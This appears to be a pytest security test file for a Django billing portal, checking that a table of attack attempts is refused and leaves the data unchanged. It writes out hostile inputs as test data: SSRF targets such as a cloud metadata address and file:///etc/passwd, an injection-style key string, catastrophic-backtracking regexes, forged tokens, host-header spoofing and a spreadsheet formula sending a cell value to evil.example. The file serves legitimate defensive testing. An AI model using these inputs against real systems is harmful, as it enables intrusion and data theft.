"""What an attacker tries, one table: each try is refused, and nothing that is written down has changed.

What is told apart in more detail elsewhere: tests/api/test_two_vendors.py (every operation with another vendor's
ids), tests/customers/events/test_addresses.py (which address a webhook reaches),
tests/payments/stripe/test_receiving.py (signatures), tests/portal/test_stripe_oauth.py (the way back from Stripe),
tests/public/test_invoice_page.py (links).
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from unittest import mock
from urllib.parse import urlsplit

import pytest
from django.core import signing
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, reverse
from django.utils import timezone
from pytest_django import Settings

from billing_portal.accounts.invitations import Person, accept, link_to
from billing_portal.accounts.letters import _password_link
from billing_portal.accounts.models import ApiKey, Invitation, Role, Scope, new_nonce
from billing_portal.portal import uploads
from billing_portal.portal.urls import urlpatterns
from customers.models import Customer, WebhookDelivery
from invoicing.invoices.links import page_url, pdf_url
from invoicing.usage import csv_files
from payments.models import StripeEvent
from payments.stripe import inbox
from tests.api.client import Api
from tests.books import everything
from tests.factories import VendorFactory
from tests.payments.stripe.conftest import SECRET, an_event, post
from tests.portal.deliveries import failing_delivery
from tests.portal.scene import PASSWORD, Scene, make_operator, make_scene
from tests.portal.test_exports import taken
from tests.portal.test_screens import coupon, operators

Try = Callable[[], Any]
EVIL = "https://evil.example/"
BIG = 64 * 1024


@dataclass
class Stage:
    """A vendor that works, and the owner of another one who means it ill."""

    scene: Scene
    delivery: WebhookDelivery
    stripe_event: StripeEvent
    api: Api
    stranger: Client

    def owner(self, *, careful: bool = False) -> Client:
        client = Client(enforce_csrf_checks=careful)
        client.force_login(self.scene.operators[Role.OWNER])
        return client


@pytest.fixture
def stage(db: None, settings: Settings) -> Iterator[Stage]:
    cache.clear()
    settings.STRIPE_WEBHOOK_SECRETS = [SECRET]
    settings.WEBHOOKS_ALLOW_LOOPBACK = False
    scene = make_scene()
    operators(scene)
    coupon(scene)
    with mock.patch("payments.tasks.process_event.delay"):
        assert post(an_event(scene.connection.account_id)).status_code == 200
        stranger = Client()
        stranger.force_login(make_operator(VendorFactory.create(), Role.OWNER, "mallory@evil.example"))
        yield Stage(scene, failing_delivery(scene.vendor), StripeEvent.objects.get(), Api(scene.vendor), stranger)
    cache.clear()


def posts() -> Iterator[URLPattern]:
    """Every address of the portal that a form may be sent to."""
    for pattern in urlpatterns:
        methods = getattr(pattern.callback, "methods", None)
        if methods is None or "POST" in methods:
            yield pattern


def ids(stage: Stage, pattern: URLPattern) -> dict[str, Any]:
    """What fills an address, so that it leads to something that the vendor has."""
    route, scene = str(pattern.pattern), stage.scene
    invoice = scene.invoices["generated"]
    owner = scene.operators[Role.OWNER]
    found: dict[str, dict[str, Any]] = {
        "customers/": {"name": "acme", "method": "pm_acme", "pk": 1, "uuid": invoice.uuid},
        "meters/": {"name": "requests"},
        "price-plans/": {"name": scene.plan.name, "version": 1},
        "coupons/": {"name": "spring"},
        "invoices/": {"uuid": invoice.uuid, "name": "void", "line": invoice.line_items.all()[0].uuid},
        "api-keys/": {"uuid": stage.api.row.uuid},
        "operators/invitations/": {"uuid": Invitation.objects.of(scene.vendor)[0].uuid},
        "operators/": {"pk": owner.memberships.get().pk},
        "webhooks/deliveries/": {"pk": stage.delivery.pk},
        "webhooks/": {"uuid": stage.delivery.endpoint.uuid},
        "stripe-events/": {"pk": stage.stripe_event.pk},
        "settings/": {"mode": "test"},
        "views/": {"list_name": "invoices", "pk": 1},
    }
    anything = {"uuid": invoice.uuid, "pk": 1, "name": "invoices", "token": "x", "uidb64": "x"}
    filling = next((given for start, given in found.items() if route.startswith(start)), anything)
    return {name: filling[name] for name in pattern.pattern.converters}


OWN = {"list_name", "mode"}  # what leads to the asking vendor's own


def another_vendors_operator(stage: Stage) -> Iterator[Try]:
    """Each button on what the vendor has, pressed by somebody who guessed, or saw, its address."""
    for pattern in posts():
        given = ids(stage, pattern)
        if given and not OWN & given.keys() and pattern.name not in ("join", "choose_password", "export"):
            address = reverse(f"portal:{pattern.name}", kwargs=given)
            form = {"reason": "mine now", "role": "owner", "target": "2099-01-01T00:00", "file": "x"}
            yield lambda address=address, form=form: stage.stranger.post(address, form)


def another_vendors_key(stage: Stage) -> Iterator[Try]:
    theirs = Api(VendorFactory.create())
    invoice = stage.scene.invoices["generated"].uuid
    yield lambda: theirs.post(f"/invoices/{invoice}/void", {})
    yield lambda: theirs.put("/customers/acme", {"display_name": "Mine"})
    yield lambda: theirs.delete(f"/webhooks/{stage.delivery.endpoint.uuid}")
    yield lambda: theirs.post(f"/api_keys/{stage.api.row.uuid}/roll")


def a_key_that_opens_nothing(stage: Stage) -> Iterator[Try]:
    """Guessed, over, made for reading, or written where it does not belong."""
    now = timezone.now()
    over, read = (
        ApiKey.issue(stage.scene.vendor, "tests", now=now, **fields)[1]
        for fields in ({"expires_at": now - timedelta(seconds=1)}, {"scope": Scope.READ})
    )
    body = json.dumps({"name": "made"})
    headers = [{}, *({"Authorization": f"Bearer {key}"} for key in ("bp_guessed", over, read, f"{over}' OR '1'='1"))]
    headers += [{"Authorization": f"Basic {stage.api.key}"}, {"Cookie": f"sessionid={stage.api.key}"}]
    for header in headers:
        yield lambda header=header: Client().post(
            "/api/v1/customers", body, content_type="application/json", headers=header
        )
    signed_in = stage.owner()  # a session is no key: no page of another site can use the API
    yield lambda: signed_in.post("/api/v1/customers", body, content_type="application/json")


def a_guessed_or_borrowed_token(stage: Stage) -> Iterator[Try]:
    """Signed by nobody, by another installation, or for something else."""
    invitation, invoice = Invitation.objects.of(stage.scene.vendor)[0], stage.scene.invoices["acme-january"]
    payload = [str(invitation.uuid), invitation.nonce]
    salt = "billing_portal.accounts.invitation"
    forged = [signing.dumps(payload, salt=salt, key="another installation"), signing.dumps(payload, salt="other")]
    forged += [signing.dumps([str(invitation.uuid), new_nonce()], salt=salt), "nothing"]
    person = {"first_name": "M", "last_name": "M", "password": PASSWORD, "again": PASSWORD}
    for token in forged:
        yield lambda token=token: Client().post(reverse("portal:join", args=[token]), person)
    for_the_vendor = urlsplit(pdf_url(invoice)).path.split("/")[-2]
    yield lambda: Client().get(f"/i/{for_the_vendor}")
    yield lambda: Client().get(f"/api/v1/invoices/{urlsplit(page_url(invoice)).path.split('/')[-1]}/pdf")
    yield lambda: Client().get(f"/i/{stage.scene.invoices['issued'].uuid}.{for_the_vendor.split('.')[1]}")


def a_replayed_link(stage: Stage) -> Iterator[Try]:
    """An invitation that was accepted, a link to a new password that was used."""
    invitation, support = Invitation.objects.of(stage.scene.vendor)[0], stage.scene.operators[Role.SUPPORT]
    links = urlsplit(link_to(invitation)).path, urlsplit(_password_link(support)).path
    now = timezone.now()
    accept(invitation, Person("Anna", "Berg", PASSWORD), now=now, real_now=now)
    support.set_password("quiet-otter-7-lanterns")
    support.save()
    person = {"first_name": "M", "last_name": "M", "password": PASSWORD, "again": PASSWORD}
    yield lambda: Client().post(links[0], person)
    yield lambda: in_vain(Client(), links[1])


def in_vain(client: Client, link: str) -> Any:
    """Django leads to a page that says so, and answers 200."""
    shown = client.get(link, follow=True)
    sent = {"new_password1": "mallory-knows-this-1", "new_password2": "mallory-knows-this-1"}
    answer = client.post(shown.redirect_chain[-1][0] if shown.redirect_chain else link, sent)
    assert answer.status_code == 200
    assert not answer.context["validlink"]
    answer.status_code = 410
    return answer


def a_forged_webhook(stage: Stage) -> Iterator[Try]:
    """Signed by somebody else, for another body, long ago, or not at all. One that was seen before is no news."""
    event = an_event(stage.scene.connection.account_id)
    old = timezone.now() - timedelta(minutes=6)
    signed = post(event).wsgi_request.headers["Stripe-Signature"]
    yield lambda: post({**event, "id": "evt_other"}, header=signed)
    yield lambda: post(an_event(stage.scene.connection.account_id), secret="whsec_guessed")
    yield lambda: post(an_event(stage.scene.connection.account_id), at=old)
    yield lambda: post(an_event(stage.scene.connection.account_id), header="")


def a_form_of_another_site(stage: Stage) -> Iterator[Try]:
    """Every address that a form may be sent to, with the owner's cookies and without the token of our pages."""
    careful = stage.owner(careful=True)
    for pattern in posts():
        address = reverse(f"portal:{pattern.name}", kwargs=ids(stage, pattern))
        yield lambda address=address: careful.post(address, {"reason": "x"}, headers={"Origin": EVIL.rstrip("/")})


def a_state_change_by_get(stage: Stage) -> Iterator[Try]:
    owner = stage.owner()
    for pattern in posts():
        methods = getattr(pattern.callback, "methods", {})
        if methods and "GET" not in methods:
            address = reverse(f"portal:{pattern.name}", kwargs=ids(stage, pattern))
            yield lambda address=address: owner.get(address)


def an_oversized_body(stage: Stage) -> Iterator[Try]:
    """``BIG`` is the limit while this runs (below)."""
    text = json.dumps({"name": "x" * BIG})
    file = SimpleUploadedFile("customers.csv", b"name\n" + b"x\n" * BIG)
    owner = stage.owner()
    yield lambda: stage.api.post("/customers", text)
    yield lambda: stage.api.http.post(
        "/api/v1/measurements/csv", "x" * 2 * BIG, content_type="text/csv", headers=stage.api._headers(None)
    )
    yield lambda: post(text.encode())
    yield lambda: owner.post(reverse("portal:imports"), {"kind": "customers", "file": file})
    yield lambda: owner.post(reverse("portal:new_customer"), {"name": "x" * 2 * BIG})
    yield lambda: owner.post(reverse("portal:new_customer"), {f"f{n}": "x" for n in range(2_001)})


def a_mapping_that_never_ends(stage: Stage) -> Iterator[Try]:
    """What RE2 cannot match in linear time it does not take, nor what would fill the memory."""
    for pattern in (r"(a+)+\1", r"(?=(a+))\1b", "((a{1000}){1000}){1000}", "(" * 500, "a" * 513, "[z-a]"):
        rule = {"label": "account", "value_regex": pattern}
        yield lambda rule=rule: stage.api.post("/customers", {"name": "made", "measurement_mappings": [rule]})
        yield lambda rule=rule: stage.api.post("/customers/acme/mappings", rule)


def a_webhook_to_ourselves(stage: Stage) -> Iterator[Try]:
    targets = (
        "http://127.0.0.1/", "http://localhost:6379/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/", "http://[::ffff:10.0.0.1]/", "http://0.0.0.0/", "file:///etc/passwd",
        "gopher://example.com/", "//example.com/", "javascript:alert(1)", "http://example.com:port/",
    )  # fmt: skip
    for url in targets:
        yield lambda url=url: stage.api.post("/webhooks", {"url": url})
        yield lambda url=url: stage.api.put(f"/webhooks/{stage.delivery.endpoint.uuid}", {"url": url})


def another_host(stage: Stage) -> Iterator[Try]:
    """Nobody's links are made with a name that the sender chose."""
    yield lambda: Client().post(
        reverse("portal:forgotten_password"), {"email": "owner@northwind.example"}, headers={"Host": "evil.example"}
    )
    yield lambda: Client().get(reverse("portal:sign_in"), headers={"Host": "evil.example"})


REFUSED: dict[str, tuple[Callable[[Stage], Iterator[Try]], set[int], int]] = {
    "another vendor's operator": (another_vendors_operator, {404}, 45),
    "another vendor's key": (another_vendors_key, {404}, 4),
    "a key that opens nothing": (a_key_that_opens_nothing, {401, 403}, 8),
    "a guessed or borrowed token": (a_guessed_or_borrowed_token, {401, 404, 410}, 7),
    "a replayed link": (a_replayed_link, {410}, 2),
    "a forged webhook": (a_forged_webhook, {400}, 4),
    "a form of another site": (a_form_of_another_site, {403}, 80),
    "a state change by GET": (a_state_change_by_get, {405}, 50),
    "an oversized body": (an_oversized_body, {400, 413, 422}, 6),
    "a mapping that never ends": (a_mapping_that_never_ends, {422}, 12),
    "a webhook to ourselves": (a_webhook_to_ourselves, {422}, 24),
    "another host": (another_host, {400}, 2),
}


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_and_nothing_has_changed(
    stage: Stage, name: str, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    attack, refusals, least = REFUSED[name]
    if attack is an_oversized_body:
        settings.DATA_UPLOAD_MAX_MEMORY_SIZE = BIG
        monkeypatch.setattr(uploads, "MOST_BYTES", BIG)
        monkeypatch.setattr(inbox, "MAX_BODY", BIG)
        monkeypatch.setattr(csv_files, "MOST_BYTES", BIG)
    tries = list(attack(stage))
    assert len(tries) >= least
    before = books()
    for one in tries:
        began = time.monotonic()
        answer = one()
        where = f"{answer.wsgi_request.method} {answer.wsgi_request.path}"
        assert answer.status_code in refusals, f"{where}: {answer.status_code}"
        assert time.monotonic() - began < 3, where
    assert books() == before


def books() -> dict[str, list[Any]]:
    """But for the count of refused deliveries, which is there to be seen."""
    return everything() | {"WebhookTally": []}


def test_an_event_that_is_delivered_again_is_no_news(stage: Stage) -> None:
    event = an_event(stage.scene.connection.account_id)
    post(event)
    before = books()
    assert post(event).status_code == 200
    assert books() == before


def test_a_pattern_is_matched_in_linear_time(stage: Stage) -> None:
    """The classic that keeps a backtracking engine busy for years."""
    customer = stage.scene.customers["acme"]
    rule = {"label": "account", "value_regex": "(a|aa|a?)+$"}
    assert stage.api.post(f"/customers/{customer.name}/mappings", rule).status_code == 200
    meter, moment = {"meter_name": "requests", "value": 1}, "2026-03-01T00:00:00Z"
    before = Customer.objects.count()
    began = time.monotonic()
    sent = stage.api.post("/measurements", {**meter, "time": moment, "labels": {"account": "a" * 1_000 + "!"}})
    assert time.monotonic() - began < 2
    assert (sent.status_code, Customer.objects.count()) == (200, before)


def test_a_formula_leaves_as_text(stage: Stage) -> None:
    """Nothing changes in the books; what a spreadsheet would carry out comes down as the text that it is."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
    Customer.objects.of(stage.scene.vendor).filter(name="acme").update(display_name=formula)
    cells = [cell for row in taken(stage.owner(), "customers") for cell in row.values()]
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_session_that_was_there_before_signing_in_is_not_the_one_after(stage: Stage) -> None:
    """An attacker who knows, or planted, the number of a visitor's session holds nothing once the visitor signed in."""
    client = Client()
    client.get(reverse("portal:sign_in"))
    session = client.session
    session["planted"] = True
    session.save()
    client.cookies["sessionid"] = planted = str(session.session_key)
    owner = stage.scene.operators[Role.OWNER]
    client.post(reverse("portal:sign_in"), {"username": owner.email, "password": PASSWORD})
    assert client.cookies["sessionid"].value not in ("", planted)
    thief = Client()
    thief.cookies["sessionid"] = planted
    assert thief.get(reverse("portal:dashboard")).status_code == 302
